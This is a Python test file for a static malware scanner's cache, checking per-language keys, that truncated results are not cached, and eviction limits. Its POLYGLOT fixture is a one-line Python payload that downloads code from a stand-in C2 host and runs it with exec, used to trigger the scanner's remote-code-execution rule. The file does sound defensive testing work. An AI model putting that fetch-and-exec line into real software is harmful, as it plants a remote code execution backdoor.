"""The static cache: keyed by language and check version, never keeps cut results, bounded."""

from __future__ import annotations

from pathlib import Path

from inspector.model import Category
from inspector.static.cache import ContentCache
from tests.hostile._static_support import scan_static

# Python that downloads and runs code; as JavaScript it is a syntax error with nothing in it.
POLYGLOT = b"import urllib.request\nexec(urllib.request.urlopen('http://c2.poly.test/x').read())\n"


def _rce(root: Path, cache: Path | None) -> list[str]:
    result = scan_static(root, cache_dir=cache)
    return [f.rule for f in result.findings if f.category is Category.REMOTE_CODE_EXECUTION]


def test_same_bytes_as_js_then_as_py_are_two_entries(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    as_js, as_py = tmp_path / "js", tmp_path / "py"
    as_js.mkdir()
    as_py.mkdir()
    (as_js / "a.js").write_bytes(POLYGLOT)
    (as_py / "a.py").write_bytes(POLYGLOT)
    cold = _rce(as_py, None)
    assert cold, "the Python sample must be a finding without any cache"
    _rce(as_js, cache)
    assert _rce(as_py, cache) == cold  # not the .js result read back
    assert _rce(as_py, cache) == cold  # and the warm .py entry is the .py result


def test_a_result_cut_short_is_not_cached(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    root = tmp_path / "repo"
    root.mkdir()
    (root / "a.js").write_text("var x = " + "+".join(["'a'"] * 3000) + ";\n")
    result = scan_static(root, cache_dir=cache)
    assert any("analysis cut at" in f.message for f in result.findings)
    assert not list((cache / "tree-sitter").rglob("*.pickle"))
    (root / "b.js").write_text("module.exports = 'https://c2.cache.test/';\n")
    scan_static(root, cache_dir=cache)
    assert len(list((cache / "tree-sitter").rglob("*.pickle"))) == 1  # only the complete one


def test_the_cache_evicts_the_least_recently_used(tmp_path: Path) -> None:
    cache = ContentCache(tmp_path, "test", "1", max_entries=10, max_bytes=1 << 30)
    for index in range(30):
        cache.put("text", str(index).encode(), index)
    assert cache.prune() == 22
    assert len(list(tmp_path.rglob("*.pickle"))) == 8
    assert cache.get("text", b"29") == 29  # the newest stay
    bounded = ContentCache(tmp_path, "test", "1", max_entries=1000, max_bytes=1000)
    for index in range(30):
        bounded.put("bytes", str(index).encode(), b"x" * 200)
    bounded.prune()
    assert sum(p.stat().st_size for p in tmp_path.rglob("*.pickle")) <= 1000
